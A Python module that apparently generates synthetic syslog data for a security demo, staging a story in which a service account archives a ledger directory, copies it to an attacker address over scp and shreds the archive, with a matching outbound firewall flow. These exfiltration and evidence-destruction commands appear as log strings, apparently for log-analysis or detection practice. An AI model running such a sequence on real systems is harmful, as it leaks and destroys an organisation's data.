"""The text logs: the Linux gateway's own, and those of a log agent on the workstation."""

from __future__ import annotations

from datetime import datetime
from typing import Any

from casparian.demo.dice import Dice
from casparian.demo.story.cast import (
    ATTACKER_ADDRESS,
    GATEWAY,
    NAMES,
    WORKSTATION_ADDRESS,
    at,
    noise_times,
)
from casparian.demo.syslog_writer import Entry


def _line(time: datetime, application: str, message: str, **rest: Any) -> Entry:
    return Entry(time=time, host=GATEWAY, application=application, message=message, **rest)


def _in_order(entries: list[Entry]) -> list[Entry]:
    return sorted(entries, key=lambda entry: entry.time)


def auth_log(dice: Dice, scale: int) -> list[Entry]:
    """Guesses from outside, cron, and what `svc_backup` did."""
    entries = []
    for time in noise_times(dice, 120 * scale):
        process = dice.between(900, 32_000)
        if dice.chance(2):
            user, address = dice.choice(("root", "admin", "pi", "oracle")), dice.between(2, 250)
            text = (
                f"Failed password for invalid user {user} from 203.0.113.{address} port {process}"
            )
            entries.append(_line(time, "sshd", text, process_id=process, facility=10))
        else:
            text = "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            entries.append(_line(time, "CRON", text, process_id=process, facility=10))
    accepted = f"Accepted password for svc_backup from {WORKSTATION_ADDRESS} port 50417 ssh2"
    entries.append(_line(at("22:12:40"), "sshd", accepted, process_id=20_417, facility=10))
    for clock, command in (
        ("22:13:05", "/usr/bin/tar -czf /var/tmp/.l.tgz /srv/ledger"),
        ("22:15:02", f"/usr/bin/scp /var/tmp/.l.tgz k@{ATTACKER_ADDRESS}:/in"),
        ("22:19:44", "/usr/bin/shred -u /var/tmp/.l.tgz"),
    ):
        text = f"svc_backup : TTY=pts/0 ; PWD=/home/svc_backup ; USER=root ; COMMAND={command}"
        entries.append(_line(at(clock), "sudo", text, facility=10, severity=5))
    return _in_order(entries)


def daemon_log(dice: Dice, scale: int) -> list[Entry]:
    """Noise of daemons and the kernel."""
    entries = []
    for time in noise_times(dice, 220 * scale):
        application, text = dice.choice(
            (
                ("systemd", "Started Daily apt download activities."),
                ("kernel", f"[{dice.below(90_000)}.{dice.below(10**6):06}] eth0: link up"),
                ("dnsmasq", f"query[A] {dice.choice(NAMES)} from 192.0.2.{dice.between(10, 90)}"),
                ("dhclient", f"bound to 192.0.2.1 -- renewal in {dice.below(4000)} seconds."),
            )
        )
        process = None if application == "kernel" else dice.between(300, 32_000)
        entries.append(_line(time, application, text, process_id=process))
    return _in_order(entries)


def firewall_log(dice: Dice, scale: int) -> list[Entry]:
    """RFC 5424 with structured data; 32473 is the enterprise number for examples (RFC 5612)."""

    def flow(time: datetime, target: str, port: int, size: int) -> Entry:
        data = [
            ("flow@32473", [("src", WORKSTATION_ADDRESS), ("dst", target), ("dpt", str(port))]),
            ("meta@32473", [("bytes_out", str(size)), ("rule", 'allow "out" [default]')]),
        ]
        text = f"ACCEPT {WORKSTATION_ADDRESS} -> {target}:{port}"
        return _line(time, "fw", text, message_id="FLOW", structured_data=data, facility=16)

    entries = [
        flow(time, f"192.0.2.{dice.between(1, 9)}", dice.choice((53, 80, 443)), dice.below(90_000))
        for time in noise_times(dice, 140 * scale)
    ]
    return _in_order([*entries, flow(at("22:15:30"), ATTACKER_ADDRESS, 22, 48_113_664)])


def relay_log(dice: Dice, scale: int) -> list[Entry]:
    """A log agent on the workstation, in Nepal's time for no better reason than its offset."""
    return _in_order(
        [
            Entry(
                time=time,
                host="FIN-WS07",
                application="relay",
                process_id=2212,
                message=f"sent {dice.below(500)} events to gw01, Rückstand {dice.below(9)}",
                zone="+05:45",
            )
            for time in noise_times(dice, 70 * scale)
        ]
    )
